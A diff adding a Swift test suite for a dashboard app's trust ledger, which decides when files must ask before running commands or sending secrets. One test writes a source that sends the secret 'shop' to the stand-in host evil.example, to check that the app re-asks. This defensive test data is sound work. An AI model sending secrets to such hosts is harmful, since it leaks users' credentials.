@@ -1,0 +1,171 @@
+import Dashboard
+import Foundation
+import TestSupport
+import Testing
+
+@testable import cardwall
+
+/// What was allowed is remembered by path, and for others' files by what they can do.
+@Suite("The ledger of what was allowed")
+struct TrustLedgerTests {
+  private let folder: TemporaryFolder
+  private let ledger: TrustLedger
+
+  init() throws {
+    folder = try TemporaryFolder()
+    ledger = TrustLedger(environment: [
+      "XDG_STATE_HOME": folder.path("state"), "XDG_CONFIG_HOME": folder.path("config"),
+    ])
+  }
+
+  /// Writes a dashboard that runs a program, and others that tests name.
+  private func write(_ name: String, also sources: String = "") throws -> String {
+    try folder.write(
+      """
+      version: 1
+      sources:
+        ran: { type: command, run: [id] }
+        \(sources)
+      pages: [{ id: home, sections: [] }]
+      """, to: name)
+  }
+
+  private func permissions(_ path: String, isTrusted: Bool = false) throws -> Permissions {
+    let reading = ledger.permitted(
+      DashboardFile.load(path: path, environment: [:]), at: path, isTrusted: isTrusted)
+    return try #require(reading.definition, "\(reading.diagnostics)").permissions
+  }
+
+  private func questions(_ path: String, isTrusted: Bool = false) throws -> [String] {
+    try permissions(path, isTrusted: isTrusted).questions.map(\.description)
+  }
+
+  private func allow(_ path: String, folder: Bool = false) throws {
+    #expect(
+      ledger.allow(
+        try permissions(path).questions, of: path, files: [path], folder: folder))
+  }
+
+  private func setMode(_ mode: Int, of path: String) throws {
+    try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: path)
+  }
+
+  @Test("An allowed file asks nothing, whatever is written into it; a copy elsewhere does")
+  func byPath() throws {
+    let path = try write("a/wall.yaml")
+    #expect(try questions(path) == ["runs id"])
+    try allow(path)
+    #expect(try questions(path).isEmpty)
+    _ = try write("a/wall.yaml", also: "more: { type: command, run: [date] }")
+    #expect(try questions(path).isEmpty)
+    #expect(try questions(write("b/wall.yaml")) == ["runs id"])
+    #expect(try questions(write("a/other.yaml")) == ["runs id"])
+  }
+
+  @Test("An allowed folder has all dashboards in it allowed, and none that is only linked there")
+  func byFolder() throws {
+    let path = try write("a/wall.yaml")
+    try allow(path, folder: true)
+    #expect(try questions(write("a/other.yaml")).isEmpty)
+    #expect(try questions(write("a/below/wall.yaml")).isEmpty)
+    let other = try write("ab/wall.yaml")
+    #expect(try questions(other) == ["runs id"])
+    try FileManager.default.createSymbolicLink(
+      atPath: folder.path("a/link.yaml"), withDestinationPath: other)
+    #expect(try questions(folder.path("a/link.yaml")) == ["runs id"])
+  }
+
+  /// Expects a file of somebody else to be remembered by what it can do.
+  private func expectRemembranceOfAbilities(_ path: String, _ name: String) throws {
+    try allow(path, folder: true)
+    #expect(try questions(path).isEmpty)
+    #expect(try questions(write("a/own.yaml")) == ["runs id"], "the folder isn’t allowed")
+    _ = try write(name, also: "more: { type: command, run: [date] }")
+    #expect(try questions(path) == ["runs date", "runs id"])
+    _ = try write(name, also: "more: { type: static, data: 1 }")
+    #expect(try questions(path).isEmpty, "other edits ask nothing")
+  }
+
+  @Test("A file in a folder that others may write to asks again when it can do more")
+  func sharedFolder() throws {
+    let path = try write("a/shared/wall.yaml")
+    try setMode(0o777, of: folder.path("a/shared"))
+    try expectRemembranceOfAbilities(path, "a/shared/wall.yaml")
+  }
+
+  @Test("A file that a browser has marked with its origin asks again when it can do more")
+  func downloaded() throws {
+    let path = try write("a/wall.yaml")
+    let mark = """
+      import os, sys
+      os.setxattr(sys.argv[1], "user.xdg.origin.url", b"https://a.example")
+      """
+    let isMarked = try Tool(name: "python3").run(["-c", mark, path]).status == 0
+    // Not every file system has such marks.
+    guard isMarked else { return }
+    #expect(TrustLedger.isForeign([path]))
+    try allow(path, folder: true)
+    #expect(try questions(path).isEmpty)
+    #expect(try questions(write("a/other.yaml")) == ["runs id"])
+    let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
+    try handle.truncate(atOffset: 0)
+    try handle.write(
+      contentsOf: Data(
+        """
+        version: 1
+        sources: { ran: { type: command, run: [date] } }
+        pages: [{ id: home, sections: [] }]
+        """.utf8))
+    #expect(try questions(path) == ["runs date"])
+  }
+
+  @Test("A secret is asked about once for a server, also in an allowed file")
+  func secrets() throws {
+    let path = try write("a/wall.yaml")
+    try allow(path)
+    let shop = "shop: { type: http, url: \"https://shop.example/?${secret:shop}\" }"
+    _ = try write("a/wall.yaml", also: shop)
+    #expect(try questions(path) == ["sends the secret “shop” to shop.example"])
+    try allow(path)
+    #expect(try questions(path).isEmpty)
+    let servers = folder.path("config/cardwall/secrets/shop.servers")
+    #expect(try String(contentsOfFile: servers, encoding: .utf8) == "https://shop.example:443\n")
+    let other = try write("b/wall.yaml")
+    try allow(other)
+    _ = try write("b/wall.yaml", also: shop)
+    #expect(try questions(other).isEmpty)
+    let evil = shop.replacingOccurrences(of: "shop.example", with: "evil.example")
+    _ = try write("b/wall.yaml", also: evil)
+    #expect(try questions(other) == ["sends the secret “shop” to evil.example"])
+    for file in [servers, folder.path("state/cardwall/trust.json")] {
+      let mode = try FileManager.default.attributesOfItem(atPath: file)[.posixPermissions]
+      #expect(mode as? Int == 0o600, "\(file)")
+    }
+  }
+
+  @Test("--trust, and what the program has written, ask nothing")
+  func trusted() throws {
+    let path = try write(
+      "a/wall.yaml", also: "s: { type: http, url: \"https://a.example/${secret:k}\" }")
+    let trusted = try permissions(path, isTrusted: true)
+    #expect(trusted.questions.isEmpty)
+    #expect(
+      trusted.grants
+        == .only([SecretUse(secret: "k", receiver: .server("https://a.example:443"))]))
+    #expect(try questions(path).count == 2, "it holds for a run of the program")
+    ledger.allow(written: path)
+    #expect(try questions(path) == ["sends the secret “k” to a.example"])
+  }
+
+  @Test("A ledger that can’t be read allows nothing, and one that can’t be written says so")
+  func broken() throws {
+    let path = try write("a/wall.yaml")
+    try allow(path)
+    try folder.write("{ broken", to: "state/cardwall/trust.json")
+    #expect(try questions(path) == ["runs id"])
+    let other = TrustLedger(environment: [
+      "XDG_STATE_HOME": path, "XDG_CONFIG_HOME": folder.path("config"),
+    ])
+    #expect(!other.allow([], of: path, files: [path], folder: false))
+  }
+}
